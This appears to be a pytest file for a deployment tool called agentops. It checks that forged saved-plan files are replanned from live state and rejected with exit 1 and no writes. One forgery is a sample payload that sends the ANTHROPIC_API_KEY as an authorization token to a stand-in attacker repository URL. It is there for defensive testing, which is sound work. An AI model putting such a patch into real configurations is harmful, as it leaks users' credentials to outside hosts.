"""A saved plan is a claim: apply plans again and writes only what the fresh plan also claims.

Every forgery here recomputes the digest, as anyone who can read the code can, so what stops it
is planning again from the checkout and live state. Each case must end with exit 1 and no write.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import anthropic
import pytest

from agentops.engine import planfile
from agentops.model import tags
from tests.stack import STACK, TOKEN, Stack, console_body, manifest

Forgery = Callable[[dict[str, Any], dict[str, str]], None]


def _forge(path: Path, change: Forgery, ids: dict[str, str]) -> None:
    data = json.loads(path.read_text())
    change(data, ids)
    plan, _ = planfile.load(json.dumps(data))
    data["digest"] = planfile.digest(plan)
    path.write_text(json.dumps(data))


def _action(data: dict[str, Any], name: str) -> dict[str, Any]:
    return next(a for a in data["actions"] if a["name"] == name)


def _appended(kind: str, name: str, deployment: str) -> Forgery:
    def change(data: dict[str, Any], ids: dict[str, str]) -> None:
        data["actions"].append({"name": name, "resource": "deployment", "action": kind, "reason": "forged",
                                "id": ids[deployment], "deployment_id": ids[deployment],
                                "updated_at": ids[f"{deployment}@"], "changes": [],
                                "patch": {} if kind == "adopt" else None})
    return change


def _leak_the_api_key(data: dict[str, Any], ids: dict[str, str]) -> None:
    _action(data, "job")["patch"]["resources"] = [{
        "type": "github_repository", "url": "https://github.example/attacker/r",
        "authorization_token": "${ANTHROPIC_API_KEY}",
    }]


def _retarget(data: dict[str, Any], ids: dict[str, str]) -> None:
    action = _action(data, "job")
    action.update(id=ids["kept"], deployment_id=ids["kept"], updated_at=ids["kept@"])


def _set(name: str, **fields: Any) -> Forgery:
    return lambda data, ids: _action(data, name).update(fields)


FORGERIES: dict[str, Forgery] = {
    "a patch that sends the API key to another host": _leak_the_api_key,
    "a patch the manifests do not ask for": _set("job", patch={"description": "sneaky"}),
    "an update turned into an archive": _set("job", action="archive", patch=None),
    "an update aimed at another deployment of the stack": _retarget,
    "an archive of a prevent_archive deployment whose manifest exists": _appended("archive", "kept", "kept"),
    "an adoption of an untagged deployment": _appended("adopt", "manual", "manual"),
    "a create body edited": lambda data, ids: data["actions"].append({
        "name": "extra", "resource": "deployment", "action": "create", "reason": "forged", "changes": [],
        "body": {**console_body("extra"), "metadata": {tags.STACK: STACK, tags.NAME: "extra"}},
    }),
}


@pytest.fixture
def prepared(stack: Stack) -> dict[str, str]:
    """Live: `job` (to be updated), `kept` (prevent_archive), and an untagged `manual`."""
    stack.write(manifest("job", description="one"), manifest("kept", lifecycle={"prevent_archive": True}))
    assert stack.apply().exit_code == 0
    client = anthropic.Anthropic(base_url=stack.emulator.url, api_key="t", max_retries=0)
    client.beta.deployments.create(**console_body("manual"))
    stack.write(manifest("job", description="two"), manifest("kept", lifecycle={"prevent_archive": True}))
    ids: dict[str, str] = {}
    for live in stack.emulator.raw_deployments():
        name = live["metadata"].get(tags.NAME, live["name"])
        ids[name], ids[f"{name}@"] = live["id"], live["updated_at"]
    return ids


@pytest.mark.parametrize("what", FORGERIES)
def test_a_forged_plan_writes_nothing(stack: Stack, tmp_path: Path, prepared: dict[str, str], what: str) -> None:
    saved = tmp_path / "reviewed.plan"
    assert stack.run("plan", str(stack.root), "--out", str(saved)).exit_code == 0
    _forge(saved, FORGERIES[what], prepared)
    stack.emulator.reset_counts()
    result = stack.run("apply", str(saved), "--auto-approve", env={"ANTHROPIC_API_KEY": "sk-ant-REAL-KEY-123"})
    assert result.exit_code == 1, (what, result.output)
    assert stack.emulator.write_count() == 0, what
    assert "sk-ant-REAL-KEY-123" not in result.output and TOKEN not in result.output


def test_a_plan_blocked_by_max_archive_stays_blocked_with_its_problems_cleared(stack: Stack, tmp_path: Path) -> None:
    stack.write(manifest("a"), manifest("b"))
    assert stack.apply().exit_code == 0
    stack.write(manifest("a"))
    saved = tmp_path / "blocked.plan"
    blocked = stack.run("plan", str(stack.root), "--max-archive", "0", "--out", str(saved))
    assert blocked.exit_code == 1 and "more than the limit of 0" in blocked.output
    _forge(saved, lambda data, ids: data.update(problems=[]), {})
    stack.emulator.reset_counts()
    result = stack.run("apply", str(saved), "--auto-approve")
    assert result.exit_code == 1 and "more than the limit of 0" in result.output
    assert stack.emulator.write_count() == 0


@pytest.mark.parametrize(("flag", "value", "option"), [
    ("adopt", True, "--adopt"), ("allow_empty", True, "--allow-empty"), ("max_archive", 99, "--max-archive"),
])
def test_a_flag_that_grants_more_counts_only_when_apply_is_given_it(
    stack: Stack, tmp_path: Path, flag: str, value: Any, option: str
) -> None:
    stack.write(manifest("a"))
    saved = tmp_path / "p.plan"
    assert stack.run("plan", str(stack.root), "--out", str(saved)).exit_code == 0
    _forge(saved, lambda data, ids: data["flags"].update({flag: value}), {})
    refused = stack.run("apply", str(saved), "--auto-approve")
    assert refused.exit_code == 1 and f"was made with {option}" in refused.output
    assert stack.emulator.write_count() == 0
    given = [option] if value is True else [option, str(value)]
    applied = stack.run("apply", str(saved), "--auto-approve", *given)
    assert applied.exit_code == 0, applied.output


def test_the_project_is_the_checkout_never_the_folder_beside_the_plan(stack: Stack, tmp_path: Path) -> None:
    """An agentops.yaml planted next to the plan file decides nothing: the plan names another stack,
    and the checkout's stack refuses it."""
    other = anthropic.Anthropic(base_url=stack.emulator.url, api_key="t", max_retries=0).beta.deployments.create(
        **console_body("theirs", metadata={tags.STACK: "other", tags.NAME: "theirs"}))
    planted = tmp_path / "elsewhere"
    (planted / "deployments").mkdir(parents=True)
    (planted / "agentops.yaml").write_text("stack: other\napi: {writes_per_minute: 0, reads_per_minute: 0}\n")
    (planted / "deployments" / "x.yaml").write_text("name: x\nagent: agent_1\nenvironment_id: env_1\nprompt: hi\n")
    saved = planted / "p.plan"
    assert stack.run("--stack", "other", "plan", str(planted), "--out", str(saved)).exit_code == 0
    data = json.loads(saved.read_text())
    assert any(a["action"] == "archive" and a["deployment_id"] == other.id for a in data["actions"])
    stack.emulator.reset_counts()
    result = stack.run("apply", str(saved), "--auto-approve")
    assert result.exit_code == 1 and "for stack 'other', not 'team-a'" in result.output
    assert stack.emulator.write_count() == 0


def test_outside_a_project_there_is_nothing_to_plan_again_from(stack: Stack, tmp_path: Path) -> None:
    stack.write(manifest("a"))
    saved = tmp_path / "p.plan"
    assert stack.run("plan", str(stack.root), "--out", str(saved)).exit_code == 0
    (stack.root / "agentops.yaml").unlink()
    result = stack.run("apply", str(saved), "--auto-approve")
    assert result.exit_code == 1 and "no agentops.yaml here or above" in result.output
    assert stack.emulator.write_count() == 0
